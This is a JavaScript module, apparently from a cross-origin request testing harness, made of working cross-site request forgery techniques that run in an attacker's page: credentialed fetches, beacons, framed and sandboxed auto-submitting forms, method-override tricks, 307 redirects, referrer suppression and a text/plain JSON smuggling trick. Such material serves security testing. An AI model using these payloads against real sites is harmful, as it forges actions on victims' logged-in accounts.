// The ways in which a page of another origin can make a browser send something. Each is a function
// that runs in the attacker's page; `target` is `{url, method, form, json, base}`.
//
// Attacks that leave the page have a page of their own; the others share one.

/**
 * Attacks from within a page. Each gives what it could read of the answer, or nothing. A promise
 * that is rejected is an attack that failed.
 */
export const EMBEDDED = {
  async 'fetch, simple, with cookies'({ url, json }) {
    const body = JSON.stringify(json);
    return readable(await fetch(url, { method: 'POST', credentials: 'include', headers: { 'content-type': 'text/plain' }, body }));
  },
  async 'fetch, opaque'({ url, json }) {
    return readable(await fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(json) }));
  },
  async 'fetch, a form'({ url, form }) {
    return readable(await fetch(url, { method: 'POST', credentials: 'include', body: new URLSearchParams(form) }));
  },
  async 'fetch, reading'({ url }) {
    return readable(await fetch(url, { credentials: 'include' }));
  },
  async 'fetch, its own method, preflighted'({ url, method, json }) {
    const headers = { 'content-type': 'application/json' };
    const body = method === 'GET' ? undefined : JSON.stringify(json);
    return readable(await fetch(url, { method, credentials: 'include', headers, body }));
  },
  async 'fetch, another method in a header'({ url, method, form }) {
    const headers = { 'x-http-method-override': method };
    return readable(await fetch(url, { method: 'POST', credentials: 'include', headers, body: new URLSearchParams(form) }));
  },
  async 'fetch, kept alive'({ url, form }) {
    return readable(await fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true, credentials: 'include', body: new URLSearchParams(form) }));
  },
  async 'fetch, redirected with its body'({ url, form, redirect307 }) {
    return readable(await fetch(redirect307(url), { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams(form) }));
  },
  'XMLHttpRequest': ({ url, method, json }) => new Promise((done, failed) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.onload = () => done(`status ${request.status}: ${request.responseText.slice(0, 100)}`);
    request.onerror = () => failed(new Error('refused'));
    if (method !== 'GET') request.setRequestHeader('content-type', 'application/json');
    request.send(method === 'GET' ? null : JSON.stringify(json));
  }),
  async 'beacon'({ url, form }) {
    navigator.sendBeacon(url, new URLSearchParams(form));
  },
  image: ({ url }) => element('img', { src: url }, (it) => `an image of ${it.naturalWidth} px`),
  script: ({ url }) => element('script', { src: url }, () => 'a script that ran'),
  'module script with cookies': ({ url }) =>
    element('script', { src: url, type: 'module', crossOrigin: 'use-credentials' }, () => 'a module that ran'),
  'style sheet': ({ url }) => element('link', { rel: 'stylesheet', href: url }, (it) => {
    try { return `${it.sheet.cssRules.length} rules of a style sheet`; } catch { return undefined; }
  }),
  video: ({ url }) => new Promise((done) => {
    const it = Object.assign(document.createElement('video'), { src: url, onloadeddata: () => done('a video'), onerror: () => done() });
    document.body.append(it);
  }),
  'prefetch link': ({ url }) => element('link', { rel: 'prefetch', href: url }, () => undefined),
  frame: ({ url }) => element('iframe', { src: url }, inside),
  'form in a frame': ({ url, form }) => framed(url, form),
  'form in a frame, from a sandbox': ({ url, form }) => {
    // Its origin is `null`, and its referrer is none.
    const inner = `<form method="post" action="${url}">${fields(form)}</form><script>document.forms[0].submit()<\/script>`;
    return element('iframe', { sandbox: 'allow-scripts allow-forms', srcdoc: inner }, inside);
  },
  object: ({ url }) => element('object', { data: url }, (it) => inside(it)),
  WebSocket: ({ url }) => new Promise((done, failed) => {
    const socket = new WebSocket(url.replace(/^http/, 'ws'));
    socket.onopen = () => { socket.close(); done('an open socket'); };
    socket.onerror = () => failed(new Error('refused'));
  }),
  EventSource: ({ url }) => new Promise((done, failed) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onopen = () => { source.close(); done('an open stream'); };
    source.onerror = () => { source.close(); failed(new Error('refused')); };
  }),
};

/** Attacks that take the whole window to the target, or a new one. */
export const NAVIGATING = {
  'form, urlencoded': (target) => submit(target, 'application/x-www-form-urlencoded'),
  'form, multipart': (target) => submit(target, 'multipart/form-data'),
  'form, JSON as text': (target) => submit(target, 'text/plain'),
  'form, by GET': (target) => submit(target, 'application/x-www-form-urlencoded', 'get'),
  'form, another method in a field': (target) =>
    submit({ ...target, form: { ...target.form, _method: target.method } }, 'application/x-www-form-urlencoded'),
  'form, redirected with its body': (target) =>
    submit({ ...target, url: target.redirect307(target.url) }, 'application/x-www-form-urlencoded'),
  'form, without a referrer': (target) => {
    document.head.insertAdjacentHTML('beforeend', '<meta name="referrer" content="no-referrer">');
    submit(target, 'application/x-www-form-urlencoded');
  },
  'form in a new window': (target) => submit(target, 'application/x-www-form-urlencoded', 'post', '_blank'),
  'new window': ({ url }) => { window.opened = window.open(url); },
  'location': ({ url }) => { location.href = url; },
  'meta refresh': ({ url }) => {
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0; url=${url}">`);
  },
};

/** What the functions above use in the page. */
export const HELPERS = [readable, element, inside, framed, fields, submit];

async function readable(response) {
  if (response.type === 'opaque' || response.type === 'opaqueredirect') return undefined;
  return `status ${response.status}: ${(await response.text()).slice(0, 100)}`;
}

/** Adds an element, and waits until it has loaded or failed to. */
function element(name, attributes, whatIsRead) {
  return new Promise((done, failed) => {
    const it = Object.assign(document.createElement(name), attributes);
    for (const attribute of ['sandbox', 'srcdoc']) if (attributes[attribute]) it.setAttribute(attribute, attributes[attribute]);
    it.onload = () => done(whatIsRead(it));
    it.onerror = () => failed(new Error('refused'));
    (name === 'link' ? document.head : document.body).append(it);
  });
}

/** What of a frame can be read from outside. */
function inside(frame) {
  try {
    const { body } = frame.contentDocument;
    // An error page of the browser or an empty one is nothing that was read.
    return body.innerText.trim() === '' ? undefined : `a frame: ${body.innerText.slice(0, 100)}`;
  } catch {
    return undefined;
  }
}

function framed(url, form) {
  const name = `frame-${Math.random()}`;
  const loaded = element('iframe', { name, src: 'about:blank' }, () => undefined);
  return loaded.then(() => new Promise((done) => {
    const frame = document.getElementsByName(name)[0];
    frame.onload = () => {
      const what = inside(frame);
      frame.remove();
      done(what);
    };
    const it = Object.assign(document.createElement('form'), { method: 'post', action: url, target: name, innerHTML: fields(form) });
    document.body.append(it);
    HTMLFormElement.prototype.submit.call(it);
  }));
}

function fields(form) {
  const quoted = (text) => String(text).replaceAll('&', '&amp;').replaceAll('"', '&quot;');
  return Object.entries(form).map(([name, value]) => `<input name="${quoted(name)}" value="${quoted(value)}">`).join('');
}

function submit({ url, form, json }, enctype, method = 'post', window = '_self') {
  let inner = fields(form);
  if (enctype === 'text/plain') {
    // The `=` that the browser puts between name and value hides in the last text, which had better
    // be one that may be anything.
    const text = JSON.stringify(json);
    const at = text.lastIndexOf('"');
    inner = fields(at < 0 ? { [text]: '' } : { [text.slice(0, at)]: text.slice(at) });
  }
  const it = Object.assign(document.createElement('form'), { method, action: url, enctype, target: window, innerHTML: inner });
  document.body.append(it);
  HTMLFormElement.prototype.submit.call(it);
}
